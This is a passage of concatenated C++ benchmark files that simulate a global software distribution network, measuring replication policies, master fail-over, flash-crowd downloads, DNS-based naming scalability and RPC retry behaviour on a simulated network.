    std::exit(1);
  }
  if (mode == ViralMode::kAdaptive) {
    world.EnableAdaptiveReplication();
  }

  world.network().mutable_stats()->Clear();
  ViralResult result;
  std::vector<std::pair<std::string, Bytes>> acked;
  int write_index = 0;

  auto do_write = [&] {
    std::string path = Fmt("w%d", write_index);
    Bytes content(2000, static_cast<uint8_t>(0x60 + write_index));
    ++write_index;
    Status status = Unavailable("pending");
    world.moderator()->AddFile(name, path, content, [&](Status s) { status = s; });
    world.Run();
    if (status.ok()) {
      acked.emplace_back(path, std::move(content));
    }
  };
  auto do_read = [&](size_t country, size_t user_index) -> double {
    const auto& users = users_by_country[country];
    sim::NodeId user = users[user_index % users.size()];
    auto content = world.DownloadFile(user, name, "data");
    return content.ok() ? sim::ToMillis(world.last_op_duration()) : -1.0;
  };

  // Warm phase: home-country traffic only; the controller (if any) must leave
  // the object central.
  for (int i = 0; i < kViralWarmReads; ++i) {
    do_read(0, static_cast<size_t>(i));
    if ((i + 1) % 10 == 0) {
      do_write();
    }
    if (mode == ViralMode::kAdaptive && (i + 1) % kViralEvaluateEvery == 0) {
      world.EvaluateAdaptiveNow();
    }
  }

  // Hot phase: the flash crowd — reads round-robin over every country.
  double hot_ms = 0;
  int hot_reads = 0;
  uint64_t hot_wan_before = world.network().stats().BytesAtOrAbove(2);
  uint64_t hot_write_wan = 0;
  for (int i = 0; i < kViralHotReads; ++i) {
    size_t country = static_cast<size_t>(i) % world.num_countries();
    double ms = do_read(country, static_cast<size_t>(i) / world.num_countries());
    if (ms >= 0) {
      hot_ms += ms;
      ++hot_reads;
    }
    if ((i + 1) % kViralWriteEvery == 0) {
      uint64_t before = world.network().stats().BytesAtOrAbove(2);
      do_write();
      hot_write_wan += world.network().stats().BytesAtOrAbove(2) - before;
    }
    if (mode == ViralMode::kAdaptive && (i + 1) % kViralEvaluateEvery == 0) {
      world.EvaluateAdaptiveNow();
    }
  }
  result.hot_read_ms = hot_reads > 0 ? hot_ms / hot_reads : -1;
  result.hot_read_wan =
      world.network().stats().BytesAtOrAbove(2) - hot_wan_before - hot_write_wan;
  result.total_wan = world.network().stats().BytesAtOrAbove(2);
  result.acked_writes = acked.size();
  if (mode == ViralMode::kAdaptive && world.controller() != nullptr) {
    result.migrations = world.controller()->stats().migrations_succeeded;
  }

  // Acked-write floor: every acknowledged write must be readable, bytes
  // intact, after all migrations (verification traffic is not counted).
  for (const auto& [path, content] : acked) {
    auto read_back = world.DownloadFile(users_by_country[0][0], name, path);
    if (!read_back.ok() || *read_back != content) {
      ++result.writes_lost;
    }
  }
  return result;
}

// ------------------------------------------------------------- fail-over

// Minimal KV semantics for the fail-over runs: presence of a key proves the
// write survived the election.
class KvObject : public dso::SemanticsObject {
 public:
  static constexpr uint16_t kTypeId = 31;

  Result<Bytes> Invoke(const dso::Invocation& invocation) override {
    ByteReader r(invocation.args);
    if (invocation.method == "put") {
      ASSIGN_OR_RETURN(std::string key, r.ReadString());
      ASSIGN_OR_RETURN(std::string value, r.ReadString());
      entries_[key] = value;
      return Bytes{};
    }
    return NotFound("no such method: " + invocation.method);
  }

  Bytes GetState() const override {
    ByteWriter w;
    w.WriteVarint(entries_.size());
    for (const auto& [key, value] : entries_) {
      w.WriteString(key);
      w.WriteString(value);
    }
    return w.Take();
  }

  Status SetState(ByteSpan state) override {
    ByteReader r(state);
    std::map<std::string, std::string> entries;
    ASSIGN_OR_RETURN(uint64_t count, r.ReadVarint());
    for (uint64_t i = 0; i < count; ++i) {
      ASSIGN_OR_RETURN(std::string key, r.ReadString());
      ASSIGN_OR_RETURN(std::string value, r.ReadString());
      entries[key] = value;
    }
    entries_ = std::move(entries);
    return OkStatus();
  }

  std::unique_ptr<dso::SemanticsObject> CloneEmpty() const override {
    return std::make_unique<KvObject>();
  }
  uint16_t type_id() const override { return kTypeId; }

  const std::map<std::string, std::string>& entries() const { return entries_; }

 private:
  std::map<std::string, std::string> entries_;
};

struct FailoverResult {
  double time_to_master_ms = -1;  // -1: no new master was elected
  double mean_write_ms = 0;       // mean client-visible write latency (acked)
  size_t acked_before_crash = 0;
  size_t writes_lost = 0;  // acked writes missing after fail-over (floor!)
  uint64_t claims = 0;     // claim attempts arbitrated at the GLS root
  bool post_failover_write_ok = false;
};

// `quorum`: run the group in quorum-acknowledged mode — the master acks the
// client only once a majority of the current-epoch membership durably holds
// the write. Lease-only mode acks from the master alone (faster writes, but
// the documented loss window: a write acked between pushes can die with the
// master). The fail-over table contrasts both modes at identical lease
// timings.
FailoverResult RunFailover(sim::SimTime lease_interval, sim::SimTime lease_timeout,
                           bool quorum) {
  sim::Simulator simulator;
  sim::UniformWorld world = sim::BuildUniformWorld({2, 2}, 2);
  sim::NetworkOptions network_options;
  network_options.rng_seed = 0xFA11;
  sim::Network network(&simulator, &world.topology, network_options);
  sim::PlainTransport transport(&network);
  gls::GlsDeploymentOptions deployment_options;
  deployment_options.node_options.enable_cache = true;
  gls::GlsDeployment deployment(&transport, &world.topology, nullptr,
                                deployment_options);
  dso::ImplementationRepository repository;
  repository.RegisterSemantics(std::make_unique<KvObject>());
  gos::GosOptions gos_options;
  gos_options.enable_failover = true;
  gos_options.failover_lease_interval = lease_interval;
  gos_options.failover_lease_timeout = lease_timeout;
  gos_options.failover_quorum = quorum;
  gos::ObjectServer master_gos(&transport, world.hosts[0], &repository,
                               deployment.LeafDirectoryFor(world.hosts[0]), nullptr,
                               gos_options);
  gos::ObjectServer slave_gos(&transport, world.hosts[6], &repository,
                              deployment.LeafDirectoryFor(world.hosts[6]), nullptr,
                              gos_options);

  auto run_for = [&](sim::SimTime d) { simulator.RunUntil(simulator.Now() + d); };

  gls::ObjectId oid;
  gls::ContactAddress master_address;
  bool created = false;
  master_gos.CreateFirstReplica(
      dso::kProtoMasterSlave, KvObject::kTypeId,
      [&](Result<std::pair<gls::ObjectId, gls::ContactAddress>> r) {
        if (r.ok()) {
          oid = r->first;
          master_address = r->second;
          created = true;
        }
      });
  run_for(10 * sim::kSecond);
  gls::ContactAddress slave_address;
  slave_gos.CreateReplica(oid, KvObject::kTypeId, gls::ReplicaRole::kSlave,
                          [&](Result<std::pair<gls::ObjectId, gls::ContactAddress>> r) {
                            if (r.ok()) {
                              slave_address = r->second;
                            }
                          });
  run_for(10 * sim::kSecond);
  if (!created) {
    return {};
  }

  // 20 writes, each acked (pushed to the slave) before the crash.
  sim::Channel client(&transport, world.hosts[3]);
  FailoverResult result;
  std::vector<std::string> acked_keys;
  double total_write_ms = 0;
  for (int i = 0; i < 20; ++i) {
    std::string key = Fmt("w%d", i);
    ByteWriter args;
    args.WriteString(key);
    args.WriteString("v");
    bool ok = false;
    sim::SimTime started = simulator.Now();
    sim::SimTime acked_at = started;
    dso::kDsoInvoke.Call(&client, master_address.endpoint,
                         dso::Invocation{"put", args.Take(), /*read_only=*/false},
                         [&](Result<Bytes> r) {
                           ok = r.ok();
                           acked_at = simulator.Now();
                         },
                         sim::WriteCallOptions());
    run_for(2 * sim::kSecond);
    if (ok) {
      acked_keys.push_back(key);
      total_write_ms += sim::ToMillis(acked_at - started);
    }
  }
  result.acked_before_crash = acked_keys.size();
  result.mean_write_ms =
      acked_keys.empty() ? 0 : total_write_ms / static_cast<double>(acked_keys.size());

  // Crash; wait out detection + election.
  sim::SimTime crash_at = simulator.Now();
  network.CrashNode(master_address.endpoint.node);
  run_for(3 * lease_timeout + 10 * sim::kSecond);

  dso::ReplicationObject* new_master = slave_gos.FindReplica(oid);
  if (new_master == nullptr || new_master->group() == nullptr ||
      new_master->contact_address()->role != gls::ReplicaRole::kMaster) {
    return result;
  }
  result.time_to_master_ms =
      sim::ToMillis(new_master->group()->stats().elected_at - crash_at);
  result.claims = deployment.TotalStats().master_claims;

  // Acked floor: every acknowledged write must be present on the new master.
  KvObject survived;
  (void)survived.SetState(new_master->semantics()->GetState());
  for (const std::string& key : acked_keys) {
    if (survived.entries().count(key) == 0) {
      ++result.writes_lost;
    }
  }

  // The elected master serves writes.
  ByteWriter args;
  args.WriteString("post");
  args.WriteString("v");
  dso::kDsoInvoke.Call(&client, slave_address.endpoint,
                       dso::Invocation{"put", args.Take(), /*read_only=*/false},
                       [&](Result<Bytes> r) { result.post_failover_write_ok = r.ok(); },
                       sim::WriteCallOptions());
  run_for(5 * sim::kSecond);
  return result;
}

}  // namespace

int main() {
  bench::Title("E3 bench_replication_scenarios",
               "per-object replication vs. global policies (paper 3.1 / Pierre et al.)");
  bench::Note("%d packages, Zipf(%.1f) popularity, %.0f%% volatile, %d downloads, "
              "1 update per %d downloads, 6 countries",
              kPackages, kZipfExponent, kVolatileFraction * 100, kDownloads,
              kUpdateEveryNDownloads);

  // Workload is built once so every policy replays the identical op sequence.
  // User count equals the world the scenarios construct (3x2x2 sites x 2 hosts).
  Workload workload = BuildWorkload(/*num_users=*/24, /*seed=*/0xe3);

  bench::Table table({"policy", "mean read", "read WAN", "update WAN", "total WAN",
                      "failures"});
  for (Policy policy : {Policy::kCentral, Policy::kReplicateAll, Policy::kCacheAll,
                        Policy::kPerObject}) {
    ScenarioResult r = RunScenario(policy, workload);
    table.Row({PolicyName(policy), Fmt("%.1f ms", r.mean_read_ms),
               FormatBytes(r.read_wan_bytes), FormatBytes(r.update_wan_bytes),
               FormatBytes(r.total_wan_bytes), Fmt("%d", r.failures)});
  }

  bench::Note("");
  bench::Note("expected shape (paper): 'central' pays on read latency and read WAN;");
  bench::Note("'replicate-all' pays update WAN for replicas nobody reads;");
  bench::Note("'per-object' assignment approaches the best column of every global");
  bench::Note("policy simultaneously - less WAN traffic AND better response time.");

  bench::Note("");
  bench::Note("viral object (online controller, src/ctl): one package starts central");
  bench::Note("in country 0, then a flash crowd reads it from all 6 countries.");
  bench::Note("'adaptive' runs ctl::ReplicationController against live telemetry and");
  bench::Note("migrates the object mid-trace; 'static-oracle' knew the future at");
  bench::Note("publish time. Acked writes must survive every migration (lost = 0).");
  bench::Table viral({"strategy", "hot mean read", "hot read WAN", "total WAN",
                      "migrations", "acked writes", "writes lost"},
                     /*column_width=*/15);
  for (ViralMode mode : {ViralMode::kStaticCentral, ViralMode::kStaticOracle,
                         ViralMode::kAdaptive}) {
    ViralResult r = RunViral(mode);
    viral.Row({ViralModeName(mode), Fmt("%.1f ms", r.hot_read_ms),
               FormatBytes(r.hot_read_wan), FormatBytes(r.total_wan),
               Fmt("%llu", static_cast<unsigned long long>(r.migrations)),
               Fmt("%zu", r.acked_writes), Fmt("%zu", r.writes_lost)});
  }

  bench::Note("");
  bench::Note("master fail-over (GLS-driven): master/slave package, master crashes");
  bench::Note("after 20 acked writes; the slave detects missed lease renewals and");
  bench::Note("races gls.claim_master. 'writes lost' counts acked writes missing");
  bench::Note("after the election - the acked-write floor requires it to stay 0.");
  bench::Note("'lease-only' acks from the master alone; 'quorum-ack' waits for a");
  bench::Note("majority of the membership to hold the write before acking, paying");
  bench::Note("one extra round-trip per write to close the loss window.");
  bench::Table failover({"mode", "lease int/timeout", "mean write",
                         "time to new master", "acked writes", "writes lost",
                         "claims", "serves writes"},
                        /*column_width=*/19);
  struct TimingRow {
    sim::SimTime interval;
    sim::SimTime timeout;
  };
  for (bool quorum : {false, true}) {
    for (const TimingRow& timing :
         {TimingRow{1 * sim::kSecond, 3 * sim::kSecond},
          TimingRow{2 * sim::kSecond, 5 * sim::kSecond},
          TimingRow{4 * sim::kSecond, 10 * sim::kSecond}}) {
      FailoverResult r = RunFailover(timing.interval, timing.timeout, quorum);
      failover.Row({quorum ? "quorum-ack" : "lease-only",
                    Fmt("%.0fs/%.0fs", sim::ToSeconds(timing.interval),
                        sim::ToSeconds(timing.timeout)),
                    Fmt("%.1f ms", r.mean_write_ms),
                    r.time_to_master_ms < 0 ? "never" : Fmt("%.0f ms", r.time_to_master_ms),
                    Fmt("%zu", r.acked_before_crash), Fmt("%zu", r.writes_lost),
                    Fmt("%llu", static_cast<unsigned long long>(r.claims)),
                    r.post_failover_write_ok ? "yes" : "NO"});
    }
  }
  return 0;
}
