// E4 — end-to-end GDN download vs. FTP-style central distribution (paper §1, §4,
// Figure 3).
//
// Claim: the GDN improves on anonymous FTP / plain WWW because replicas near the
// clients serve downloads fast and keep the load off the origin, while storage
// location stays transparent (the GLS finds the nearest replica).
//
// Workload: a 1 MB package; 60 downloads with a flash crowd concentrated in one
// country. Three deployments of the *same* download path:
//   ftp-central : one server, every client goes intercontinental
//   gdn-replica : GDN with a replica in the crowd's country
//   gdn-cache   : GDN with cache/invalidate — the crowd country's HTTPD fills
//                 its cache on first request (no pre-placement at all)
//
// Expected shape: mean latency drops by the intercontinental/LAN ratio; origin-host
// load collapses to ~1 state transfer; WAN bytes drop from 60 MB to ~1 MB.

#include "bench/bench_util.h"
#include "src/gdn/world.h"

using namespace globe;
using bench::Fmt;

namespace {

constexpr size_t kPackageBytes = 1 << 20;
constexpr int kDownloadsPerUser = 5;

struct RunResult {
  double mean_ms = 0;
  uint64_t wan_bytes = 0;
  uint64_t origin_messages = 0;
  int downloads = 0;
};

RunResult Run(gls::ProtocolId protocol, bool replica_in_crowd_country,
              bool httpd_may_replicate) {
  gdn::GdnWorldConfig config;
  config.fanouts = {2, 2, 2};
  config.user_hosts_per_site = 3;
  // FTP/plain-WWW baseline: the access point is a dumb relay (thin proxy), exactly
  // the "limited and inflexible support for replication" the paper faults (1).
  config.httpd.bind_as_replica = httpd_may_replicate;
  gdn::GdnWorld world(config);

  size_t crowd_country = world.num_countries() - 1;
  std::vector<size_t> replicas;
  if (replica_in_crowd_country) {
    replicas.push_back(crowd_country);
  }
  auto oid = world.PublishPackage("/apps/big/dist", {{"dist.tar.gz", Bytes(kPackageBytes, 7)}},
                                  protocol, /*master_country=*/0, replicas);
  if (!oid.ok()) {
    std::printf("publish failed: %s\n", oid.status().ToString().c_str());
    std::exit(1);
  }

  sim::NodeId origin_host = world.countries()[0].gos_host;
  world.network().mutable_stats()->Clear();
  world.network().ClearPerNodeReceived();

  RunResult result;
  double total_ms = 0;
  for (int round = 0; round < kDownloadsPerUser; ++round) {
    for (sim::NodeId user : world.user_hosts()) {
      if (world.CountryOf(user) != static_cast<int>(crowd_country)) {
        continue;
      }
      auto content = world.DownloadFile(user, "/apps/big/dist", "dist.tar.gz");
      if (!content.ok()) {
        continue;
      }
      total_ms += sim::ToMillis(world.last_op_duration());
      ++result.downloads;
    }
  }
  result.mean_ms = result.downloads > 0 ? total_ms / result.downloads : 0;
  result.wan_bytes = world.network().stats().BytesAtOrAbove(2);
  auto it = world.network().per_node_received().find(origin_host);
  result.origin_messages = it == world.network().per_node_received().end() ? 0 : it->second;
  return result;
}

}  // namespace

int main() {
  bench::Title("E4 bench_gdn_download",
               "flash-crowd download: central FTP vs GDN replication (paper 1, 4)");
  bench::Note("1 MB package, flash crowd: every user of one country downloads %d times",
              kDownloadsPerUser);

  bench::Table table({"deployment", "downloads", "mean latency", "WAN bytes",
                      "origin msgs"},
                     15);

  RunResult ftp = Run(dso::kProtoMasterSlave, /*replica_in_crowd_country=*/false,
                      /*httpd_may_replicate=*/false);
  table.Row({"ftp-central", Fmt("%d", ftp.downloads), Fmt("%.1f ms", ftp.mean_ms),
             FormatBytes(ftp.wan_bytes), Fmt("%llu", (unsigned long long)ftp.origin_messages)});

  RunResult replica = Run(dso::kProtoMasterSlave, /*replica_in_crowd_country=*/true,
                          /*httpd_may_replicate=*/false);
  table.Row({"gdn-replica", Fmt("%d", replica.downloads), Fmt("%.1f ms", replica.mean_ms),
             FormatBytes(replica.wan_bytes),
             Fmt("%llu", (unsigned long long)replica.origin_messages)});

  RunResult cache = Run(dso::kProtoCacheInval, /*replica_in_crowd_country=*/false,
                        /*httpd_may_replicate=*/true);
  table.Row({"gdn-cache", Fmt("%d", cache.downloads), Fmt("%.1f ms", cache.mean_ms),
             FormatBytes(cache.wan_bytes),
             Fmt("%llu", (unsigned long long)cache.origin_messages)});

  bench::Note("");
  bench::Note("expected shape (paper): both GDN deployments beat the central server on");
  bench::Note("latency by the intercontinental/local ratio; WAN traffic collapses from");
  bench::Note("downloads x 1 MB to ~1 package transfer; the origin host serves the crowd");
  bench::Note("once instead of every request. gdn-cache achieves this with no manual");
  bench::Note("replica placement - the HTTPD's local representative became the replica.");
  return 0;
}
