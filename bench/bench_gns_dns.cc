// E9 — DNS-based GNS scalability: caching, replicated authoritative servers and
// batched updates (paper §5).
//
// Claims: (a) DNS caching plus replication of the zone "results in a scalable
// system"; (b) "we can distribute the load by creating multiple authoritative name
// servers"; (c) "the number of updates to our zone can be kept low by batching them."
//
// Workloads:
//   1. resolve sweep: 600 name resolutions through country resolvers, with the
//      resolver cache on/off and 1..8 authoritative servers — measure mean latency
//      and per-authoritative-server load.
//   2. update batching: 64 package registrations at batch sizes 1..64 — measure DNS
//      UPDATE messages and zone-transfer pushes to secondaries.

#include "bench/bench_util.h"
#include "src/dns/gns.h"
#include "src/dns/resolver.h"
#include "src/dns/server.h"
#include "src/sim/rpc.h"
#include "src/sim/backend.h"

using namespace globe;
using bench::Fmt;

namespace {

constexpr char kZone[] = "gdn.cs.vu.nl";

struct ResolveRunResult {
  double mean_ms = 0;
  uint64_t max_server_queries = 0;
  uint64_t cache_hits = 0;
};

ResolveRunResult RunResolveSweep(int num_servers, bool cache_enabled) {
  sim::Simulator simulator;
  sim::UniformWorld world = sim::BuildUniformWorld({2, 2, 2}, 2);
  sim::Network network(&simulator, &world.topology);
  sim::PlainTransport transport(&network);

  dns::TsigKeyTable keys{{"gdn-na", ToBytes("k1")}, {"axfr", ToBytes("k2")}};

  // Primary + (num_servers - 1) secondaries, spread over hosts.
  std::vector<std::unique_ptr<dns::AuthoritativeServer>> servers;
  dns::Zone zone(kZone, 300);
  for (int i = 0; i < 64; ++i) {
    (void)zone.Add({"pkg" + std::to_string(i) + ".apps.gdn.cs.vu.nl", dns::RrType::kTxt,
                    3600, "00112233445566778899aabbccddeeff"});
  }
  for (int i = 0; i < num_servers; ++i) {
    auto server = std::make_unique<dns::AuthoritativeServer>(
        &transport, world.hosts[(i * 3) % world.hosts.size()], keys);
    dns::Zone copy = zone;
    server->AddZone(std::move(copy), /*primary=*/i == 0);
    servers.push_back(std::move(server));
  }

  // One resolver per continent-ish (two resolvers), both knowing all servers.
  dns::ResolverOptions resolver_options;
  resolver_options.enable_cache = cache_enabled;
  std::vector<std::unique_ptr<dns::CachingResolver>> resolvers;
  for (sim::NodeId host : {world.hosts[1], world.hosts[9]}) {
    auto resolver =
        std::make_unique<dns::CachingResolver>(&transport, host, resolver_options);
    for (auto& server : servers) {
      resolver->AddUpstream(kZone, server->endpoint());
    }
    resolvers.push_back(std::move(resolver));
  }

  // 600 resolutions: Zipf-ish by reusing low indices more often.
  Rng rng(0xe9);
  ZipfSampler zipf(64, 0.9);
  double total_ms = 0;
  int completed = 0;
  for (int i = 0; i < 600; ++i) {
    auto& resolver = resolvers[rng.UniformInt(resolvers.size())];
    sim::NodeId client = world.hosts[rng.UniformInt(world.hosts.size())];
    dns::DnsClient dns_client(&transport, client, resolver->endpoint());
    std::string name = "pkg" + std::to_string(zipf.Sample(&rng)) + ".apps.gdn.cs.vu.nl";
    sim::SimTime started = simulator.Now();
    sim::SimTime finished = started;
    dns_client.Resolve(name, dns::RrType::kTxt, [&](Result<dns::QueryResponse> r) {
      finished = simulator.Now();
      if (r.ok() && r->rcode == dns::Rcode::kNoError) {
        total_ms += sim::ToMillis(finished - started);
        ++completed;
      }
    });
    simulator.Run();
  }

  ResolveRunResult result;
  result.mean_ms = completed > 0 ? total_ms / completed : 0;
  for (auto& server : servers) {
    result.max_server_queries =
        std::max(result.max_server_queries, server->stats().queries);
  }
  for (auto& resolver : resolvers) {
    result.cache_hits += resolver->stats().cache_hits;
  }
  return result;
}

}  // namespace

int main() {
  bench::Title("E9 bench_gns_dns",
               "DNS-based GNS: caching, replication, batching (paper 5)");

  // ---- Part 1: resolve sweep. ----
  bench::Note("600 Zipf resolutions over 64 names, 2 resolvers");
  bench::Table sweep(
      {"auth servers", "cache", "mean resolve", "max srv load", "cache hits"});
  for (int servers : {1, 2, 4, 8}) {
    for (bool cache : {false, true}) {
      ResolveRunResult r = RunResolveSweep(servers, cache);
      sweep.Row({Fmt("%d", servers), cache ? "on" : "off", Fmt("%.1f ms", r.mean_ms),
                 Fmt("%llu", (unsigned long long)r.max_server_queries),
                 Fmt("%llu", (unsigned long long)r.cache_hits)});
    }
  }

  // ---- Part 2: update batching. ----
  bench::Note("");
  bench::Note("64 package registrations, 1 secondary server refreshed by zone transfer");
  bench::Table batching({"batch size", "UPDATE msgs", "zone pushes", "zone serial"});
  for (size_t batch : {1u, 4u, 16u, 64u}) {
    sim::Simulator simulator;
    sim::UniformWorld world = sim::BuildUniformWorld({2, 2}, 2);
    sim::Network network(&simulator, &world.topology);
    sim::PlainTransport transport(&network);
    sec::KeyRegistry registry;
    dns::TsigKeyTable keys{{"gdn-na", ToBytes("k1")}, {"axfr", ToBytes("k2")}};

    dns::AuthoritativeServer primary(&transport, world.hosts[0], keys);
    primary.AddZone(dns::Zone(kZone, 300), true);
    dns::AuthoritativeServer secondary(&transport, world.hosts[4], keys);
    secondary.AddZone(dns::Zone(kZone, 300), false);
    primary.AddSecondary(kZone, secondary.endpoint());

    dns::NamingAuthorityOptions na_options;
    na_options.enforce_authorization = false;
    na_options.max_batch = batch;
    na_options.max_batch_delay = 10 * sim::kSecond;
    dns::GnsNamingAuthority authority(&transport, world.hosts[1], kZone, &registry,
                                      "gdn-na", keys["gdn-na"], primary.endpoint(),
                                      na_options);

    dns::GnsClient gns(&transport, world.hosts[2], kZone, authority.endpoint(),
                       primary.endpoint());
    for (int i = 0; i < 64; ++i) {
      gns.AddName("/apps/batch/pkg" + std::to_string(i),
                  "00112233445566778899aabbccddeeff", [](Status) {});
      // Advance just far enough for the request to arrive — the authority's flush
      // timer (10 s) must be able to coalesce, so do not drain the whole queue.
      simulator.RunUntil(simulator.Now() + 200 * sim::kMillisecond);
    }
    authority.Flush();
    simulator.Run();

    batching.Row({Fmt("%zu", batch),
                  Fmt("%llu", (unsigned long long)primary.stats().updates_applied),
                  Fmt("%llu", (unsigned long long)primary.stats().transfers_sent),
                  Fmt("%u", primary.FindZone("x.gdn.cs.vu.nl")->serial())});
  }

  bench::Note("");
  bench::Note(
      "expected shape (paper): caching slashes resolve latency and authoritative");
  bench::Note("load; replicated servers split the remaining load ~1/n (round-robin);");
  bench::Note(
      "batching divides UPDATE message count and zone pushes by the batch factor,");
  bench::Note("'keeping the number of updates to our zone low'.");
  return 0;
}
