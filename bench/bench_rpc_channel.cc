// E12 — the Channel RPC layer: deadline erasure, retry policies, load feedback.
//
// Four claims about the redesigned client API, each with its own table:
//   1. Deadline erasure: a call's deadline event is removed from the simulator
//      queue the moment its response lands, so a drained synchronous step costs
//      the path round-trip time. Previously every completed call left its 30 s
//      timeout event behind and draining advanced the virtual clock ~30 s per
//      step, which forced unrealistically long cache TTLs everywhere.
//   2. Declarative retries: RetryPolicy{attempts, backoff} recovers lossy-network
//      calls that a single attempt loses, trading bounded extra latency.
//   3. At-most-once writes: with per-link loss on both directions, retried
//      non-idempotent calls deliver duplicates that the server's dedup table
//      absorbs — the final state always equals the number of executed calls.
//   4. Per-peer load feedback: Channel::PeerLoad's outstanding depth and EWMA
//      latency separate a fast server from an overloaded one — the signal behind
//      DirectoryRef::TryRoute's power-of-two-choices mode.

#include <algorithm>
#include <vector>

#include "bench/bench_util.h"
#include "src/sim/backend.h"
#include "src/sim/rpc.h"

using namespace globe;
using bench::Fmt;

namespace {

void RegisterEcho(sim::RpcServer* server) {
  server->RegisterMethod("echo",
                         [](const sim::RpcContext&, ByteSpan req) -> Result<Bytes> {
                           return Bytes(req.begin(), req.end());
                         });
}

void DeadlineErasureTable() {
  bench::Note("");
  bench::Note("1) deadline erasure: N sequential drained calls advance the virtual");
  bench::Note("   clock by N round trips; no deadline events survive the drain.");
  bench::Table table({"calls", "virtual time", "per call", "pending events"});
  for (int calls : {1, 10, 100}) {
    sim::Simulator simulator;
    sim::UniformWorld world = sim::BuildUniformWorld({2, 2}, 2);
    sim::Network network(&simulator, &world.topology);
    sim::PlainTransport transport(&network);
    sim::RpcServer server(&transport, world.hosts[0], 700);
    RegisterEcho(&server);
    sim::Channel client(&transport, world.hosts.back());

    for (int i = 0; i < calls; ++i) {
      client.Call(server.endpoint(), "echo", Bytes(64), [](Result<sim::PayloadView>) {});
      simulator.Run();  // synchronous step: drain after every call
    }
    table.Row({Fmt("%d", calls), bench::Ms(simulator.Now()),
               bench::Ms(simulator.Now() / static_cast<sim::SimTime>(calls)),
               Fmt("%zu", simulator.pending_events())});
  }
  bench::Note("   (the same loop against the old API cost ~30 s of virtual time per");
  bench::Note("   drained call: one leaked timeout event each)");
}

void RetryTable() {
  bench::Note("");
  bench::Note("2) declarative retries on a lossy network: success rate and mean");
  bench::Note("   latency of 400 calls, per RetryPolicy.attempts.");
  bench::Table table({"drop prob", "attempts", "delivered", "mean latency"});
  for (double drop : {0.1, 0.3}) {
    for (uint32_t attempts : {1u, 2u, 4u}) {
      sim::Simulator simulator;
      sim::UniformWorld world = sim::BuildUniformWorld({2, 2}, 2);
      sim::NetworkOptions net_options;
      net_options.drop_probability = drop;
      net_options.rng_seed = 0xE11;
      sim::Network network(&simulator, &world.topology, net_options);
      sim::PlainTransport transport(&network);
      sim::RpcServer server(&transport, world.hosts[0], 700);
      RegisterEcho(&server);
      sim::Channel client(&transport, world.hosts.back());

      constexpr int kCalls = 400;
      int delivered = 0;
      double total_latency_us = 0;
      sim::CallOptions options;
      options.deadline = 2 * sim::kSecond;
      options.retry.attempts = attempts;
      options.retry.backoff = 100 * sim::kMillisecond;
      for (int i = 0; i < kCalls; ++i) {
        sim::SimTime issued = simulator.Now();
        client.Call(server.endpoint(), "echo", Bytes(64),
                    [&](Result<sim::PayloadView> result) {
                      if (result.ok()) {
                        ++delivered;
                        total_latency_us +=
                            static_cast<double>(simulator.Now() - issued);
                      }
                    },
                    options);
        simulator.Run();
      }
      table.Row({Fmt("%.0f%%", drop * 100), Fmt("%u", attempts),
                 Fmt("%.1f%%", 100.0 * delivered / kCalls),
                 delivered > 0 ? bench::Ms(total_latency_us / delivered)
                               : std::string("-")});
    }
  }
}

void AtMostOnceWriteTable() {
  bench::Note("");
  bench::Note("3) at-most-once writes under per-link loss: 400 counter.add calls,");
  bench::Note("   RetryPolicy{attempts=4, backoff=100ms}, loss on both directions of");
  bench::Note("   the client-server link. A lost response makes the retry deliver a");
  bench::Note("   duplicate; the server's dedup table replays the cached response, so");
  bench::Note("   the counter always equals the number of executed calls.");
  bench::Table table({"loss/link", "acked", "committed", "counter", "dups suppressed",
                      "write tput"},
                     16);
  for (double loss : {0.05, 0.2}) {
    sim::Simulator simulator;
    sim::UniformWorld world = sim::BuildUniformWorld({2, 2}, 2);
    sim::NetworkOptions net_options;
    net_options.rng_seed = 0xE12D;
    sim::Network network(&simulator, &world.topology, net_options);
    sim::PlainTransport transport(&network);
    sim::NodeId server_node = world.hosts[0];
    sim::NodeId client_node = world.hosts.back();
    network.SetLinkDropProbability(client_node, server_node, loss);
    network.SetLinkDropProbability(server_node, client_node, loss);

    sim::RpcServer server(&transport, server_node, 700);
    uint64_t counter = 0;
    server.RegisterMethod("counter.add",
                          [&](const sim::RpcContext&, ByteSpan) -> Result<Bytes> {
                            ByteWriter w;
                            w.WriteU64(++counter);
                            return w.Take();
                          },
                          sim::kNonIdempotent);
    sim::Channel client(&transport, client_node);

    constexpr int kWrites = 400;
    int acked = 0;
    sim::CallOptions options;
    options.deadline = 1 * sim::kSecond;
    options.retry.attempts = 4;
    options.retry.backoff = 100 * sim::kMillisecond;
    for (int i = 0; i < kWrites; ++i) {
      client.Call(server.endpoint(), "counter.add", Bytes(32),
                  [&](Result<sim::PayloadView> result) { acked += result.ok() ? 1 : 0; },
                  options);
      simulator.Run();
    }
    // Exactly-once check: every execution (requests_served) moved the counter
    // exactly once, duplicates were answered from the dedup table.
    double seconds = sim::ToSeconds(simulator.Now());
    table.Row({Fmt("%.0f%%", loss * 100), Fmt("%d/%d", acked, kWrites),
               Fmt("%llu", (unsigned long long)server.requests_served()),
               Fmt("%llu", (unsigned long long)counter),
               Fmt("%llu", (unsigned long long)server.duplicates_suppressed()),
               Fmt("%.1f/s", kWrites / seconds)});
  }
}

void PeerLoadTable() {
  bench::Note("");
  bench::Note("4) per-peer load feedback: one fast and one overloaded server; after a");
  bench::Note("   burst the channel's PeerLoad separates them, and LessLoaded picks");
  bench::Note("   the fast one for the follow-up traffic.");
  sim::Simulator simulator;
  sim::UniformWorld world = sim::BuildUniformWorld({2, 2}, 2);
  sim::Network network(&simulator, &world.topology);
  sim::PlainTransport transport(&network);

  sim::RpcServer fast(&transport, world.hosts[0], 700);
  RegisterEcho(&fast);
  fast.set_service_time(100 * sim::kMicrosecond);
  sim::RpcServer slow(&transport, world.hosts[1], 700);
  RegisterEcho(&slow);
  slow.set_service_time(5 * sim::kMillisecond);

  sim::Channel client(&transport, world.hosts.back());
  // Equal burst to both, drained once: the slow server's queue shows up as EWMA.
  for (int i = 0; i < 32; ++i) {
    client.Call(fast.endpoint(), "echo", Bytes(64), [](Result<sim::PayloadView>) {});
    client.Call(slow.endpoint(), "echo", Bytes(64), [](Result<sim::PayloadView>) {});
  }
  simulator.Run();

  // Follow-up traffic routed by LessLoaded: with nothing in flight the EWMA
  // decides, and it remembers which server queued.
  int picked_fast = 0, picked_slow = 0;
  for (int i = 0; i < 64; ++i) {
    bool use_fast = sim::LessLoaded(client.PeerLoad(fast.endpoint()),
                                    client.PeerLoad(slow.endpoint()));
    const sim::Endpoint& target = use_fast ? fast.endpoint() : slow.endpoint();
